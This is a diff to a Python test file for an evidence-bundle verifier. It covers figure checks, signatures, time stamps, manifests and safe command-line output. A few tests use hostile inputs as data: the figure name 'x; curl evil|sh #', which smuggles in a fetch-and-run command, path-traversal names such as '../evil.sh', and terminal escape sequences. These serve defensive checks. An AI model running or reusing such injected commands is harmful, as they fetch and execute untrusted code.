@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import runpy
 from decimal import Decimal
 
 import pytest
@@ -10,6 +11,7 @@ from tests.evidence.small_bundle import FIGURES, KEY, LOG, LOSS, RED, bundle, en
 
 from watchkeeper.evidence import verify
 from watchkeeper.evidence.note import Signer
+from watchkeeper.values.digest import of_bytes
 
 
 def verdicts(files):
@@ -47,8 +49,8 @@ def test_each_figure_gets_its_verdict_and_the_bundle_is_sound():
 
 def test_two_figures_are_got_again_by_hand():
     # 81,000,000.00 + 1,000,000.00 and 81,000,000.00 + 2,500,000.00 dollars, logged in cents
-    assert Decimal("8100000000") + Decimal("100000000") == Decimal("82000000") * 100
-    assert Decimal("8100000000") + Decimal("250000000") == Decimal("83500000") * 100
+    assert Decimal(8100000000) + Decimal(100000000) == Decimal(82000000) * 100
+    assert Decimal(8100000000) + Decimal(250000000) == Decimal(83500000) * 100
     assert one(FIGURES["loss"]).value == "82000000 to 83500000 USD"
 
 
@@ -93,7 +95,7 @@ def test_claims_are_counted_by_what_they_say():
 
 
 def test_a_claim_that_rests_on_a_capture_is_held():
-    log = [entry("claim", "c-1", capture="ab" * 32, checked="text")]
+    log = [entry("claim", "c-1", capture=of_bytes(b"abc"), checked="text")]
     told = figure("f", {"n": 1}, {"n": {"op": "count", "over": "claims", "where": {"basis": "held"}}}, claims=["c-1"])
     assert one(told | {"basis": {"held": 1}, "checked": {"text": 1}}, log=log).verdict == "RE-DERIVED"
 
@@ -109,8 +111,18 @@ def test_a_claim_that_rests_on_a_capture_is_held():
         ({"claims": ["c-1", "c-secret"]}, "c-secret is named and is not in the record shown"),
         ({"derivation": {"instances": {"op": "count"}}}, "the figure is malformed"),
         ({"values": None}, "the figure is malformed"),
-        ({"derivation": {"instances": {**LOSS["low"], "over": ["c-3"]}}}, "c-3 is added up in USD and is not"),
-        ({"derivation": {"instances": {**LOSS["low"], "of": "value"}}}, "the figure is malformed"),
+        ({"derivation": {"instances": LOSS["low"]}}, "is printed in None, and its steps are in USD"),
+        ({"derivation": {"instances": {"op": "sum", "of": "value", "over": ["c-3"]}}}, "'BD' is no number"),
+        ({"derivation": {"instances": {"op": "count", "over": ["UN19-03", "c-1"]}}}, "of different kinds"),
+        ({"value": "2e0", "values": {"instances": "2e0"}}, "no number of this kind"),
+        ({"value": True, "values": {"instances": True}}, "no number of this kind"),
+        (
+            {
+                "values": {"instances": 2, "table": 2},
+                "derivation": {"instances": {"op": "count", "over": "ids"}, "table": {}},
+            },
+            "bears the name of the table",
+        ),
     ],
 )
 def test_a_figure_that_does_not_follow_fails_with_the_reason(changes, why):
@@ -139,7 +151,7 @@ def test_a_table_with_a_row_too_many_fails():
     [
         ({}, "no steps are stated for instances"),
         ({"instances": {"op": "median", "over": "ids"}}, 'the step "median" is not evaluated here'),
-        ({"instances": {"op": "sum", "of": "low", "unit": "XBT", "over": ["c-1"]}}, "the unit XBT"),
+        ({"instances": {"op": "median", "over": []}}, 'the step "median"'),
         ({"instances": {"op": "count", "over": "ids"}, "table": {"op": "table"}}, "its table have no steps"),
     ],
 )
@@ -151,9 +163,77 @@ def test_what_lies_beyond_the_steps_names_the_command_that_does_it(derivation, w
     assert told.why.endswith(command)
 
 
+def test_groups_are_counted_by_words_that_the_claims_hold_or_rows_that_are_proven():
+    def counted(*over):
+        derivation = FIGURES["by_state"]["derivation"] | {"groups": {"op": "count", "over": list(over)}}
+        number = {"value": len(over), "values": {"groups": len(over)}}
+        behind = {"claims": ["c-3", "c-4"], "checked": {"text": 2}, "basis": {"held": 1, "cited": 1}}
+        return one(FIGURES["by_state"] | number | behind | {"derivation": derivation})
+
+    assert counted("BD", "Bangladesh", "in Dhaka").verdict == "RE-DERIVED"
+    assert counted("BD", "Dhaka").why == '"Dhaka" is counted and is not in the record shown'
+
+
+def test_words_of_rows_without_steps_cannot_be_counted():
+    told = FIGURES["states"] | {"value": 1, "values": {"n": 1}, "rows": [{"state": "Atlantis"}]}
+    told |= {"derivation": {"n": {"op": "count", "over": ["Atlantis"]}, "table": {"op": "table", "rows": [{}]}}}
+    told |= {"columns": [{"name": "state", "label": "State", "unit": None}]}
+    assert one(told).why == '"Atlantis" is counted and is not in the record shown'
+
+
 def test_a_number_in_a_table_without_a_step_is_not_vouched_for():
-    told = one(FIGURES["by_state"] | {"rows": [FIGURES["by_state"]["rows"][0] | {"extra": 4}]})
-    assert (told.verdict, "row 1 has no steps for extra" in told.why) == ("RE-RUN NEEDED", True)
+    for extra, unit in ((4, None), (True, None), ("4", "USD")):
+        row = FIGURES["by_state"]["rows"][0] | {"extra": extra}
+        columns = [*FIGURES["by_state"]["columns"], {"name": "extra", "label": "Extra", "unit": unit}]
+        told = one(FIGURES["by_state"] | {"rows": [row], "columns": columns})
+        assert (told.verdict, "row 1 has no steps for extra" in told.why) == ("RE-RUN NEEDED", True)
+    hidden = one(FIGURES["by_state"] | {"rows": [FIGURES["by_state"]["rows"][0] | {"extra": 4}]})
+    assert (hidden.verdict, hidden.why) == ("FAILED", "row 1 does not have the columns of its table")
+
+
+def test_an_amount_in_a_unit_whose_parts_are_unknown_needs_the_case():
+    steps = {end: {**LOSS[end], "unit": "XBT"} for end in LOSS}
+    told = one(figure("f", {"taken": {"low": "1", "high": "2", "unit": "XBT"}}, {"taken": steps}))
+    assert (told.verdict, "the parts of the unit XBT" in told.why) == ("RE-RUN NEEDED", True)
+
+
+def test_an_amount_printed_in_another_unit_than_its_steps_fails():
+    value = FIGURES["loss"]["value"] | {"unit": "BTC"}
+    told = one(FIGURES["loss"] | {"value": value, "values": {"loss": value}})
+    assert (told.verdict, told.why) == ("FAILED", "loss, low is printed in BTC, and its steps are in USD")
+    assert one(FIGURES["loss"] | {"value": {"low": "1"}, "values": {"loss": {"low": "1"}}}).verdict == "FAILED"
+
+
+def test_amounts_are_compared_to_the_last_digit_however_long_they_are():
+    low = f"{10**40}07"
+    log = [entry("claim", "c-1", unit="USD", low=low, high=low, checked="text")]
+    for printed, verdict in ((f"{10**40}.07", "RE-DERIVED"), (f"{10**40}.08", "FAILED"), ("1e40", "FAILED")):
+        value = {"low": printed, "high": printed, "unit": "USD"}
+        steps = {"op": "sum", "of": "low", "unit": "USD", "over": ["c-1"]}
+        told = figure("f", {"n": value}, {"n": steps}, claims=["c-1"], checked={"text": 1}, basis={"cited": 1})
+        assert one(told, log=log).verdict == verdict, printed
+
+
+def test_a_difference_is_taken_within_one_unit():
+    usd = LOSS["high"]
+    less = {"op": "difference", "of": [LOSS["low"], LOSS["high"]]}
+    value = {"low": "-1500000", "high": "-1500000", "unit": "USD"}
+    assert one(figure("f", {"n": value}, {"n": less})).verdict == "RE-DERIVED"
+    mixed = {"op": "difference", "of": [usd, {"op": "count", "over": "ids"}]}
+    assert one(figure("f", {"n": value}, {"n": mixed})).why == "a difference is taken between USD and None"
+    half = {"low": "-1500000.50", "high": "-1500000.50", "unit": "USD"}
+    assert "its steps give -1500000" in one(figure("f", {"n": half}, {"n": less})).why
+
+
+def test_what_is_withheld_says_nothing_else():
+    for more in ({"value": 3}, {"withheld": 1}, {"withheld": False}):
+        assert one(FIGURES["withheld"] | more).verdict == "FAILED"
+    assert one(7).verdict == "FAILED"
+
+
+def test_a_figure_that_would_keep_its_reader_waiting_is_left_to_the_case(monkeypatch):
+    monkeypatch.setattr(verify, "_MOST_STEPS", 2)
+    assert one(FIGURES["instances"]).why.startswith("its steps look at more ids")
 
 
 def test_a_claim_of_which_the_quote_is_kept_back_still_gives_the_figure_and_says_so():
@@ -169,6 +249,10 @@ def test_the_statement_logged_first_holds_where_one_id_was_logged_twice():
     again = entry("claim", "c-1", incident_id="UN19-03", low="1", high="1", checked="text", unit="USD")
     assert one(FIGURES["loss"], log=[*LOG, again]).verdict == "RE-DERIVED"
     assert one(FIGURES["loss"], log=[again, *LOG]).verdict == "FAILED"
+    files = bundle({"f": FIGURES["loss"]}, log=[*LOG, again])
+    lines = files["data/record/statements.jsonl"].splitlines(keepends=True)
+    backwards = changed(files, "data/record/statements.jsonl", b"".join(reversed(lines)))
+    assert verdicts(backwards) == {"f": "RE-DERIVED"}
 
 
 def test_every_verdict_has_one_fixed_sentence():
@@ -200,9 +284,9 @@ def test_a_statement_under_another_proof_or_twice_is_refused():
         (b'"index":3', b'"index":3.0'),
         (b'"index":3', b'"index":true'),
         (b'"index":3', b'"index":3,"index":3'),
-        (b'"kept_back":["by"]', b'"kept_back":[]'),
-        (b'"kept_back":["by"]', b'"kept_back":["at"]'),
-        (b'"closed":[', b'"closed":["x",'),
+        (b'"closed":{"by"', b'"closed":{"at"'),
+        (b'"closed":{"by"', b'"closed":{"b y"'),
+        (b'"closed":{', b'"closed":{"x":"y",'),
         (b'"opened":{', b'"opened":{"a":["zz","b"],'),
         (b'"opened":{', b'"opened":{"a":"b",'),
         (b'"closed"', b'"kept"'),
@@ -243,7 +327,7 @@ def test_a_checkpoint_signed_by_another_is_refused():
 def test_a_report_that_no_run_in_the_log_made_is_refused():
     files = bundle()
     figures = files["data/report/figures.json"].replace(b'"instances": 2', b'"instances": 3')
-    assert "figures.json is not a file that a run in the log made" in faults(
+    assert "figures.json is not a file that the run in the log made" in faults(
         changed(files, "data/report/figures.json", figures)
     )
     assert "report.pdf is not a file" in faults(changed(files, "data/report/report.pdf", b"another"))
@@ -268,9 +352,84 @@ def test_a_time_stamp_comes_with_a_proof_that_the_log_only_grew_since():
     assert (outcome.sound, outcome.stamps) == (True, 1)
     assert b"openssl ts -verify" in files["VERIFY-BY-HAND.txt"]
     for name, data in (("consistency", b""), ("checkpoint", bundle(stamped_at=5)["data/timestamps/001.checkpoint"])):
-        assert "did not only grow since" in faults(changed(files, f"data/timestamps/001.{name}", data))
+        assert "stamps no earlier state of this log" in faults(changed(files, f"data/timestamps/001.{name}", data))
+    assert "stamps no earlier state" in faults(
+        changed(files, "data/timestamps/001.tsr", b"a token over something else")
+    )
     without = {name: data for name, data in files.items() if not name.endswith(".tsr")}
-    assert "the stamp is missing" in faults(rebagged(without))
+    assert "stamps no earlier state" in faults(rebagged(without))
+    alone = {name: data for name, data in files.items() if not name.endswith(".checkpoint")}
+    assert "001.checkpoint is missing" in faults(rebagged(alone))
+
+
+def test_a_field_that_is_hidden_is_named_by_the_leaf_and_never_taken_for_not_stated():
+    """Whoever passes a bundle on can close a field, and cannot make it seem that it never was."""
+    files = bundle()
+    lines = [json.loads(line) for line in files["data/record/statements.jsonl"].splitlines()]
+    (claim,) = [line for line in lines if line["opened"]["id"][1] == "c-3"]
+    salt, value = claim["opened"].pop("body/quote")
+    claim["closed"]["body/quote"] = verify.field_digest(salt, "body/quote", value)
+
+    def written():
+        text = "".join(json.dumps(line) + "\n" for line in lines)
+        return changed(files, "data/record/statements.jsonl", text.encode())
+
+    assert verdicts(written())["states"] == "RE-DERIVED-REDACTED"
+    claim["closed"]["key"] = claim["closed"].pop("body/quote")
+    assert "is not in the log as it is shown here" in faults(written())
+    del claim["closed"]["key"]
+    assert "is not in the log as it is shown here" in faults(written())
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "data/report.pdf", "report.pdf", "CORRECTION.txt", "data/report/../report/report.pdf",
+        "data//report/report.pdf", "./data/report/report.pdf", "Data/report/report.pdf", "../evil.sh", "/etc/evil",
+        "data/runs/" + "0" * 64 + ".json", "data/captures/" + of_bytes(b"abd"), "data/timestamps/x.tsr",
+        "data/record/proofs/000000099.tlog-proof",
+    ],
+)  # fmt: skip
+def test_a_file_that_nothing_signed_speaks_of_is_refused_though_it_is_listed(name):
+    files = {**bundle(), name: b"abd"}
+    payload = {n: d for n, d in files.items() if n.startswith("data/")}
+    tags = {
+        n: d
+        for n, d in files.items()
+        if n not in payload and n not in ("manifest-sha256.txt", "tagmanifest-sha256.txt")
+    }
+    listed = "".join(f"{of_bytes(d)}  {n}\n" for n, d in payload.items()).encode()
+    tags["manifest-sha256.txt"] = listed
+    files |= tags
+    files["tagmanifest-sha256.txt"] = "".join(f"{of_bytes(d)}  {n}\n" for n, d in tags.items()).encode()
+    assert faults(files)
+
+
+def test_a_report_of_which_a_file_is_left_out_is_refused():
+    files = {name: data for name, data in bundle().items() if name != "data/report/report.pdf"}
+    assert "report.pdf is not a file that the run in the log made, or is missing" in faults(rebagged(files))
+
+
+def test_a_key_that_was_renamed_is_refused():
+    files = bundle()
+    old = Signer("watchkeeper/case-0123456789abcdef", KEY).verifier
+    new = verify.Verifier("UnitedNationsPanel", old.key)
+    note = files["data/record/checkpoint"].decode()
+    body, line = note.rsplit("\u2014 ", 1)
+    signature = verify.base64.b64decode(line.split(" ")[1])[4:]
+    renamed = f"{body}\u2014 {new.name} {verify.b64(new.key_id + signature)}\n"
+    files = changed(files, "data/record/key.txt", f"{new.written()}\n".encode())
+    assert "it signed for a log called" in faults(changed(files, "data/record/checkpoint", renamed.encode()))
+
+
+def test_a_value_may_hold_any_character_that_some_take_for_a_line_end():
+    log = [*LOG, entry("claim", "c-9", value="one\u2028two\u2029three\x85four", checked="text")]
+    assert verify.check(bundle(log=log)).sound
+
+
+def test_more_stamps_than_a_bundle_has_are_refused(monkeypatch):
+    monkeypatch.setattr(verify, "_MOST_STAMPS", 0)
+    assert "holds 1 time stamps" in faults(bundle(stamped_at=4))
 
 
 # --- the container ---
@@ -292,6 +451,11 @@ def test_a_bundle_in_a_folder_and_in_a_zip_is_one(tmp_path):
 def test_a_bag_without_one_of_its_files_is_refused(name):
     files = {inner: data for inner, data in bundle().items() if inner != name}
     assert name in faults(files)
+
+
+def test_a_file_that_is_not_as_it_is_listed_is_refused():
+    for name in ("data/report/report.pdf", "README.txt"):
+        assert f"{name} was changed: its SHA-256 is not the one listed" in faults({**bundle(), name: b"another"})
 
 
 def test_a_file_that_no_list_names_is_refused():
@@ -320,6 +484,7 @@ def test_a_file_in_the_wrong_list_is_refused():
         (b"{", "cannot be read"),
         (b'{"figures": 1}', "malformed"),
         (b"[" * 100_000, "cannot be read"),
+        (b'{"figures": {"\\ud800": 1}}', "cannot be read"),
     ],
 )
 def test_figures_that_are_none_are_refused(text, why):
@@ -408,6 +573,14 @@ def test_the_program_ends_with_five_and_says_so_if_anything_failed(tmp_path, cap
     assert b"no folder and no file" in capsysbinary.readouterr().out
 
 
+def test_the_program_is_a_file_that_can_be_started(tmp_path, capsysbinary, monkeypatch):
+    monkeypatch.setattr("sys.argv", ["verify.py", str(written(tmp_path, bundle()))])
+    with pytest.raises(SystemExit) as ended:
+        runpy.run_path(verify.__file__, run_name="__main__")
+    assert ended.value.code == 0
+    assert verify.CAUTION in capsysbinary.readouterr().out.decode()
+
+
 def test_the_program_tells_programs_the_same(tmp_path, capsysbinary):
     assert verify.main(["--json", str(written(tmp_path, bundle(stamped_at=4)))]) == 0
     told = json.loads(capsysbinary.readouterr().out)
@@ -418,7 +591,14 @@ def test_the_program_tells_programs_the_same(tmp_path, capsysbinary):
 
 
 def test_the_program_prints_nothing_that_a_terminal_would_obey(tmp_path, capsysbinary):
-    verify.main([str(written(tmp_path, bundle({"\x1b[2Jf": FIGURES["instances"]})))])
+    name = "\x1b[2Jf\nkey fingerprint  0000"
+    verify.main([str(written(tmp_path, bundle({name: FIGURES["instances"]})))])
     told = capsysbinary.readouterr().out
     assert b"\x1b" not in told
-    assert b"<U+001B>[2Jf" in told
+    assert b"<U+001B>[2Jf<U+000A>key" in told
+    assert sum(line.startswith(b"key fingerprint") for line in told.splitlines()) == 1
+
+
+def test_the_command_it_names_can_be_typed_whatever_a_figure_is_called():
+    told = one(FIGURES["instances"] | {"derivation": {}, "figure": "x; curl evil|sh #", "as_of": None})
+    assert told.why.endswith("watchkeeper figure show 'x; curl evil|sh #' --case CASE")
